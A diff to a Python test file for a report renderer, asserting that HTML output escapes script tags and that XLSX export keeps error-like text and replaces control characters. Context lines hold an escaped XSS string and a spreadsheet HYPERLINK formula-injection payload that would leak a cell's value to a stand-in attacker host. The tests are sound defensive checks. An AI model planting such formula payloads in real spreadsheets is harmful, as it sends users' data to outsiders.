@@ -198,3 +198,20 @@ def test_the_printed_page_escapes_names(session: Session, env, tmp_path: Path) -
     assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html and "&lt;b&gt;本轮&lt;/b&gt;" in html
     assert "=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;D4,&quot;详情&quot;)" in html
     assert not re.search(r"<(link|script|img)\b", html)
+
+
+def test_xlsx_keeps_text_that_looks_like_an_error_or_holds_control_characters(session: Session) -> None:
+    from reports.followups import followup_report
+    from reports.render import render_bytes
+    from tests.reports.scenarios import visits_township
+
+    visits = visits_township(session)
+    sync_followups(session, visits.round.id)
+    first, second, *_ = session.scalars(select(FollowUp).order_by(FollowUp.id)).all()
+    first.note, second.note = "#N/A", "已上门\x07"  # a bell cannot be stored in XLSX at all
+    session.flush()
+
+    sheet = load_workbook(io.BytesIO(render_bytes(followup_report(session, visits.round.id), "xlsx")))["整改回访"]
+
+    notes = {row[11].value: row[11].data_type for row in sheet.iter_rows(min_row=2) if row[11].value}
+    assert notes == {"#N/A": "s", "已上门\ufffd": "s"}
